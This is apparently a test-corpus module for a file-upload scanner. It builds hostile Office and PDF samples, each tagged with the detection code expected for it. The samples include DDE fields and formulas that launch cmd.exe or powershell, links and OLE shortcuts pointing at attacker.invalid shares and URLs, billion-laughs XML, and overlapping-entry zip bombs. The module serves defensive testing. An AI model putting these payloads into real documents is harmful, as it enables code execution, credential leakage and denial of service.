"""More hostile files, by class: polyglots, XML declarations, DDE, embedded objects, zip tricks.

Built in memory from the corpus's benign documents, the same bytes on every run.
"""

import io
import struct
import zipfile
from pathlib import Path

from tests.contributions import corpus
from tests.contributions.corpus import (
    OLE_COMPOUND_FILE,
    PAGE_OBJECTS,
    RELATIONSHIPS,
    VBA_PROJECT,
    add_relationship,
    pdf_from_objects,
    repackage,
    zip_archive,
)

DATA = Path(__file__).parent / "data"
WORD_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    + "]>"
).replace("&lol0;", "&lol;")


def hostile_files(pdf: bytes, document: bytes, workbook: bytes, presentation: bytes):
    """(name, content, expected code) of the classes beyond the first corpus."""
    return (
        # Polyglots: a PDF that is also an archive, or carries anything after its end.
        (
            "appended-zip.pdf",
            pdf + zip_archive([("payload.exe", corpus.WINDOWS_PROGRAM)]),
            "hidden-data",
        ),
        ("appended-html.pdf", pdf + b"<html><script>alert(1)</script></html>\n", "hidden-data"),
        ("zip-before.docx", zip_archive([("a.txt", b"hidden")]) + document, "hidden-data"),
        ("zip-after.docx", document + corpus.WINDOWS_PROGRAM, "hidden-data"),
        # XML declarations in any part, not only the two read first.
        ("billion-laughs.docx", _declared(document, "[Content_Types].xml"), "unsafe-xml"),
        ("doctype-main-part.docx", _declared(document, "word/document.xml"), "unsafe-xml"),
        ("entity-in-styles.xlsx", _declared(workbook, "xl/styles.xml"), "unsafe-xml"),
        ("entity-in-slide.pptx", _declared(presentation, "ppt/slides/slide1.xml"), "unsafe-xml"),
        # DDE in Word fields and Excel links and formulas.
        (
            "ddeauto.docx",
            _word_body(
                document, _simple_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
            ),
            "dde",
        ),
        (
            "dde-split-runs.docx",
            _word_body(
                document, _complex_field(["DD", "EAUTO c:\\\\windows\\\\", "system32\\\\cmd.exe"])
            ),
            "dde",
        ),
        (
            "dde-in-footer.docx",
            _word_footer(document, _complex_field(["DDE cmd.exe /c calc"])),
            "dde",
        ),
        (
            "dde-quote.docx",
            _word_body(document, _complex_field(["QUOTE 68 68 69 65 85 84 79"])),
            "dde",
        ),
        ("dde-formula.xlsx", _sheet_formula(workbook, "cmd|'/c calc'!A1"), "dde"),
        ("dde-formula-quoted.xlsx", _sheet_formula(workbook, "'cmd'|' /c powershell'!'A1'"), "dde"),
        ("dde-link.xlsx", _dde_link_workbook(workbook), "dde"),
        # Actions, links and embedded objects that run or fetch something.
        ("program-action.pptx", _program_action(presentation), "active-content"),
        (
            "remote-image.docx",
            _external(document, "image", "\\\\attacker.invalid\\share\\logo.png"),
            "active-content",
        ),
        (
            "remote-frame.docx",
            _external(document, "frame", "https://attacker.invalid/frame.html"),
            "active-content",
        ),
        (
            "remote-linked-workbook.xlsx",
            _external_in(
                workbook,
                "xl/_rels/workbook.xml.rels",
                "externalLinkPath",
                "//attacker.invalid/share/book.xlsx",
            ),
            "active-content",
        ),
        ("vba-relationship.docx", _vba_by_relationship(document), "macro"),
        ("macros.pptx", repackage(presentation, main_type=(PPTX_MAIN, PPTM_MAIN)), "macro"),
        (
            "embedded-package.docx",
            _embedded(document, _ole_package(b"minutes.url")),
            "active-content",
        ),
        (
            "equation-editor.docx",
            _embedded(document, OLE_COMPOUND_FILE + bytes(504) + b"Equation.3\x00"),
            "active-content",
        ),
        (
            "embedded-macro-document.docx",
            _embedded(
                document, OLE_COMPOUND_FILE + bytes(504) + "_VBA_PROJECT".encode("utf-16-le")
            ),
            "macro",
        ),
        (
            "ole-url-moniker.docx",
            _embedded(
                document,
                OLE_COMPOUND_FILE + bytes(504) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b"),
            ),
            "active-content",
        ),
        (
            "embedded-xlsm.docx",
            _embedded(
                document, _with_vba(workbook), name="word/embeddings/Microsoft_Excel_Worksheet.xlsx"
            ),
            "macro",
        ),
        (
            "embedded-twice.docx",
            _embedded(
                document,
                _embedded(document, workbook, name="word/embeddings/inner.xlsx"),
                name="word/embeddings/outer.docx",
            ),
            "archive-bomb",
        ),
        (
            "embedded-zip.docx",
            _embedded(document, zip_archive([("a.txt", b"x")]), name="word/embeddings/archive.zip"),
            "active-content",
        ),
        (
            "rtf-chunk.docx",
            repackage(document, add=[("word/afchunk.rtf", b"{\\rtf1\\ansi{\\object\\objemb}}")]),
            "active-content",
        ),
        # Zip tricks beyond the first corpus.
        ("bzip2-part.docx", _bzip2(document), "corrupt"),
        ("gap-between-parts.docx", _gap_between_parts(document), "hidden-data"),
        ("overlapping-parts.docx", _overlapping_parts(document), "archive-bomb"),
        ("truncated.docx", document[: len(document) // 2], "corrupt"),
        # Password-protected Office files and the legacy formats, told apart.
        (
            "protected.docx",
            OLE_COMPOUND_FILE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(512),
            "encrypted",
        ),
        (
            "minutes.doc",
            OLE_COMPOUND_FILE + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(512),
            "unsupported-type",
        ),
        (
            "budget.xls",
            OLE_COMPOUND_FILE + bytes(504) + "Workbook".encode("utf-16-le") + bytes(512),
            "unsupported-type",
        ),
        # PDF: forms, media and actions taken by themselves.
        (
            "xfa-form.pdf",
            _pdf_catalog(
                b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 0 >>\nstream\n\nendstream"
            ),
            "pdf-active-content",
        ),
        (
            "rich-media.pdf",
            _pdf_annotation(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"),
            "pdf-active-content",
        ),
        (
            "open-uri.pdf",
            _pdf_catalog(b"/OpenAction << /S /URI /URI (https://attacker.invalid/track) >>"),
            "pdf-active-content",
        ),
        (
            "page-opens-share.pdf",
            _pdf_page_action(
                b"<< /O << /S /GoToR /F (\\\\\\\\attacker.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
            ),
            "pdf-active-content",
        ),
        (
            "submit-on-open.pdf",
            _pdf_catalog(
                b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid/) >> >>"
            ),
            "pdf-active-content",
        ),
        (
            "next-chain.pdf",
            _pdf_catalog(
                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /ImportData /F (data.fdf) >> >>"
            ),
            "pdf-active-content",
        ),
    )


PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
PPTM_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"


def benign_files(pdf: bytes, document: bytes, workbook: bytes):
    """(name, content, content type) of files near the line that must still be accepted."""
    return [
        ("whitespace-after-end.pdf", pdf + b"\r\n \n", corpus.PDF_CONTENT_TYPE),
        (
            "opens-on-page-one.pdf",
            _pdf_catalog(b"/OpenAction [3 0 R /Fit]"),
            corpus.PDF_CONTENT_TYPE,
        ),
        (
            "page-fields.docx",
            _word_body(document, _complex_field(["PAGE ", "\\\\* MERGEFORMAT"])),
            corpus.DOCX_CONTENT_TYPE,
        ),
        (
            "bar-in-a-string.xlsx",
            _sheet_formula(workbook, 'IF(A1="a|b","yes","no")'),
            corpus.XLSX_CONTENT_TYPE,
        ),
        (
            "chart-workbook.docx",
            _embedded(document, workbook, name="word/embeddings/Microsoft_Excel_Worksheet.xlsx"),
            corpus.DOCX_CONTENT_TYPE,
        ),
        ("web-link.docx", _web_link(document), corpus.DOCX_CONTENT_TYPE),
    ]


def _part(package: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return archive.read(name)


def _declared(package: bytes, part: str) -> bytes:
    """The part with a billion-laughs document type declared before its root element."""
    text = _part(package, part).decode()
    body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
    return repackage(package, replace=[(part, (BILLION_LAUGHS + body).encode())])


def _simple_field(instruction: str) -> str:
    instruction = instruction.replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def _complex_field(pieces: list[str]) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _word_body(document: bytes, paragraphs: str) -> bytes:
    text = _part(document, "word/document.xml").decode()
    text = text.replace("<w:body>", "<w:body>" + paragraphs, 1)
    return repackage(document, replace=[("word/document.xml", text.encode())])


def _word_footer(document: bytes, paragraphs: str) -> bytes:
    footer = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr xmlns:w="{WORD_MAIN}">{paragraphs}</w:ftr>'
    return repackage(document, add=[("word/footer9.xml", footer.encode())])


def _sheet_formula(workbook: bytes, formula: str) -> bytes:
    sheet = "xl/worksheets/sheet1.xml"
    text = _part(workbook, sheet).decode()
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    cell = f'<c r="C1"><f>{escaped}</f><v>0</v></c>'
    text = text.replace('<row r="1"', '<row r="1"', 1).replace("</row>", cell + "</row>", 1)
    return repackage(workbook, replace=[(sheet, text.encode())])


def _dde_link_workbook(workbook: bytes) -> bytes:
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>'
        b"</externalLink>"
    )
    return repackage(workbook, add=[("xl/externalLinks/externalLink1.xml", link)])


def _program_action(presentation: bytes) -> bytes:
    slide = "ppt/slides/slide1.xml"
    text = _part(presentation, slide).decode()
    text = text.replace(
        '<p:cNvPr id="2"',
        '<p:cNvPr id="2"',
        1,
    )
    action = '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="" action="ppaction://program" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    text = text.replace('name="Title 1"/>', f'name="Title 1">{action}</p:cNvPr>', 1)
    assert action in text
    return repackage(presentation, replace=[(slide, text.encode())])


def _external(document: bytes, kind: str, target: str) -> bytes:
    return _external_in(document, "word/_rels/document.xml.rels", kind, target)


def _external_in(package: bytes, part: str, kind: str, target: str) -> bytes:
    return add_relationship(
        package,
        part=part,
        relationship=f'<Relationship Id="rIdX" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/>',
    )


def _web_link(document: bytes) -> bytes:
    return _external(document, "hyperlink", "https://www.itu.int/en/council/cwg-cop/")


def _vba_by_relationship(document: bytes) -> bytes:
    related = add_relationship(
        document,
        part="word/_rels/document.xml.rels",
        relationship='<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="data.dat"/>',
    )
    return repackage(related, add=[("word/data.dat", VBA_PROJECT[8:])])


def _ole_package(file_name: bytes) -> bytes:
    return (
        OLE_COMPOUND_FILE
        + bytes(504)
        + "\x01Ole10Native".encode("utf-16-le")
        + bytes(64)
        + b"\x02\x00"
        + file_name
        + b"\x00C:\\Users\\Public\\"
        + file_name
        + b"\x00\x00\x00\x03\x00[InternetShortcut]\r\nURL=file://attacker.invalid/share/run.exe\r\n"
    )


def _embedded(
    document: bytes, content: bytes, *, name: str = "word/embeddings/oleObject1.bin"
) -> bytes:
    return repackage(document, add=[(name, content)])


def _with_vba(workbook: bytes) -> bytes:
    return repackage(workbook, add=[("xl/vbaProject.bin", VBA_PROJECT)])


def _bzip2(document: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=corpus.FIXED_DATE_TIME)
            info.compress_type = (
                zipfile.ZIP_BZIP2 if name == "word/document.xml" else zipfile.ZIP_DEFLATED
            )
            archive.writestr(info, data)
    return buffer.getvalue()


def _gap_between_parts(document: bytes) -> bytes:
    """The document's parts with a program written between two of them, where no directory
    entry points: the offsets are right, the bytes between them belong to nothing."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, data) in enumerate(entries):
            archive.writestr(zipfile.ZipInfo(name, date_time=corpus.FIXED_DATE_TIME), data)
            if number == 0:
                archive.fp.seek(archive.start_dir)
                archive.fp.write(corpus.WINDOWS_PROGRAM)
                archive.start_dir = archive.fp.tell()
    return buffer.getvalue()


def _overlapping_parts(document: bytes) -> bytes:
    """Two directory entries pointing at the same stored data, as non-recursive zip bombs do:
    the last entry's offset is set to the one before it."""
    picture = bytes(range(256)) * 64
    package = repackage(
        document, add=[("word/media/a.bin", picture), ("word/media/b.bin", picture)]
    )
    end = package.rindex(b"PK\x05\x06")
    (position,) = struct.unpack("<I", package[end + 16 : end + 20])
    records = []
    while package.startswith(b"PK\x01\x02", position):
        records.append(position)
        lengths = struct.unpack("<HHH", package[position + 28 : position + 34])
        position += 46 + sum(lengths)
    last, before_last = records[-1], records[-2]
    return (
        package[: last + 42] + package[before_last + 42 : before_last + 46] + package[last + 46 :]
    )


def _pdf_catalog(entries: bytes, *extra: bytes) -> bytes:
    return pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>", *PAGE_OBJECTS, *extra]
    )


def _pdf_annotation(annotation: bytes) -> bytes:
    page = PAGE_OBJECTS[1].replace(b" >>", b" /Annots [4 0 R] >>")
    return pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_OBJECTS[0], page, annotation]
    )


def _pdf_page_action(actions: bytes) -> bytes:
    page = PAGE_OBJECTS[1].replace(b" >>", b" /AA " + actions + b" >>")
    return pdf_from_objects([b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_OBJECTS[0], page])


def owner_restricted_pdf() -> bytes:
    """A PDF that opens without a password but forbids printing and copying: AES-256 with
    an owner password only, as pypdf writes it (committed, since its salt is random)."""
    return (DATA / "owner-password-aes256.pdf").read_bytes()
